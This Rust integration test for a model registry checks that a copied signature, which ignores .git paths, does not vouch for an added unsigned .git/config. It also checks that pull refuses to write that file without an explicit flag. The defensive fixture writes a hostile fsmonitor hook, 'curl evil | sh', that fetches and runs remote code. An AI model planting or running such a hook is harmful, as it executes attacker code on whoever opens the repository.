//! A model signature made the way model_signing makes it leaves `.git`, `.github`, `.gitattributes` and
//! `.gitignore` out (`serialization.ignore_paths`). Copied next to an added `.git/config`, it still
//! verifies, but it says nothing about that file: the client names it as not covered and, with
//! `--verify-with`, refuses to write it unless told to.
#![allow(clippy::unwrap_used)]

use crate::common;

use common::{Cli, blocking, write};
use predicates::prelude::*;
use registry_core::attest::dsse::{Envelope, INTOTO_PAYLOAD_TYPE};
use registry_core::attest::intoto::Statement;
use registry_core::attest::keys::SigningKey;
use registry_core::attest::predicates::{OMS_DEFAULT_IGNORE, OMS_V1, oms_predicate};
use registry_core::attest::sigstore_bundle::SigstoreBundle;
use registry_core::{Digest, FileEntry, Manifest};
use registry_server::testing::TestServer;

/// A model_signing-style signature of `files` (default ignore list) by `key`.
fn model_sig(key: &SigningKey, name: &str, files: &[(&str, &str)]) -> Vec<u8> {
    let entries = files
        .iter()
        .map(|(p, c)| FileEntry { path: (*p).into(), size: c.len() as u64, digest: Digest::of(c.as_bytes()) })
        .collect();
    let manifest = Manifest::new(entries).unwrap();
    let mut predicate = oms_predicate(&manifest);
    predicate["serialization"]["ignore_paths"] = serde_json::json!(OMS_DEFAULT_IGNORE);
    let st = Statement::new(vec![Statement::subject(name, &manifest.oms_root_digest())], OMS_V1, predicate);
    let env = Envelope::sign(INTOTO_PAYLOAD_TYPE, serde_json::to_vec(&st).unwrap(), &[key]);
    SigstoreBundle::for_key(env, key.public().oms_hint()).to_json()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn files_a_signature_ignores_are_never_reported_as_covered_nor_written_by_default() {
    let work = tempfile::tempdir().unwrap();
    let s = TestServer::start().await;
    let cli = Cli { url: s.url.clone(), token: s.admin_token.clone(), cfg: work.path().join("cfg") };
    let w = work.path().to_path_buf();
    blocking(move || {
        cli.cmd().args(["keygen", "--out"]).arg(w.join("victim")).assert().success();
        cli.cmd()
            .args(["keys", "add", "--namespace", "*", "--public-key"])
            .arg(w.join("victim.pub"))
            .assert()
            .success();
        let key = SigningKey::from_pem(&std::fs::read_to_string(w.join("victim.key")).unwrap()).unwrap();
        let files = [("config.json", "{}"), ("weights.bin", "weights")];
        write(&w.join("signed"), &files);
        std::fs::write(w.join("model.sig"), model_sig(&key, "model", &files)).unwrap();
        cli.cmd()
            .arg("push")
            .arg(w.join("signed"))
            .args(["--model", "victim/model", "--version", "1", "--attest"])
            .arg(w.join("model.sig"))
            .assert()
            .success();
        // The pusher copies the signature and adds an unsigned .git/config with an fsmonitor hook.
        write(&w.join("evil"), &files);
        write(&w.join("evil"), &[(".git/config", "[core]\n\tfsmonitor = \"curl evil | sh\"\n")]);
        cli.cmd()
            .arg("push")
            .arg(w.join("evil"))
            .args(["--model", "victim/model", "--version", "2", "--attest"])
            .arg(w.join("model.sig"))
            .assert()
            .success();

        let out = w.join("out");
        let key_pub = w.join("victim.pub");
        cli.cmd()
            .args(["pull", "victim/model@2", "--verify-with"])
            .arg(&key_pub)
            .arg("-o")
            .arg(&out)
            .assert()
            .code(3)
            .stderr(
                predicate::str::contains("covered by no verified attestation")
                    .and(predicate::str::contains(".git/config")),
            );
        assert!(!out.exists(), "nothing written");
        let verify =
            cli.cmd().args(["verify", "victim/model@2", "--trusted-key"]).arg(&key_pub).assert().code(3);
        let text = String::from_utf8(verify.get_output().stdout.clone()).unwrap();
        assert!(text.contains("NOT covered: .git/config"), "{text}");
        assert!(!text.contains("(bound to the files by name and digest)"), "{text}");
        // Asked for explicitly: written, with a warning.
        cli.cmd()
            .args(["pull", "victim/model@2", "--allow-unsigned-files", "--verify-with"])
            .arg(&key_pub)
            .arg("-o")
            .arg(&out)
            .assert()
            .success()
            .stderr(predicate::str::contains("no verified attestation covers .git/config"));
        assert!(out.join(".git/config").exists());
        // The honest version is fully covered.
        cli.cmd()
            .args(["pull", "victim/model@1", "--verify-with"])
            .arg(&key_pub)
            .arg("-o")
            .arg(w.join("ok"))
            .assert()
            .success();
    })
    .await;
}
